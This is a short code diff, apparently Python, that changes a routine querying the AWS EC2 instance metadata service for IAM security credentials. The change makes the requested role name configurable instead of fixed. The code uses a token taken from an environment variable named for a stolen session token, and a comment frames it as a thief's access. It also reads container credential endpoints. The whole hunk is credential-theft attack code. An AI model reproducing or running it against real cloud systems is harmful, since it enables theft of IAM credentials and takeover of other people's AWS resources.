@@ -12,7 +12,8 @@ else:
         # A thief has a session token of the tree's; who is inside gets one, below.
         TOKEN = os.environ.get("STOLEN_SESSION_TOKEN", "").encode()
         PATH = os.environ["AWS_EC2_METADATA_SERVICE_ENDPOINT"]
-        HEADER, LINE = b"X-aws-ec2-metadata-token: ", b"GET /latest/meta-data/iam/security-credentials/base HTTP/1.1"
+        ROLE = os.environ.get("METADATA_ROLE", "base").encode()
+        HEADER, LINE = b"X-aws-ec2-metadata-token: ", b"GET /latest/meta-data/iam/security-credentials/" + ROLE + b" HTTP/1.1"
     else:
         TOKEN = os.environ["AWS_CONTAINER_AUTHORIZATION_TOKEN"].encode()
         PATH = os.environ["AWS_CONTAINER_CREDENTIALS_FULL_URI"]
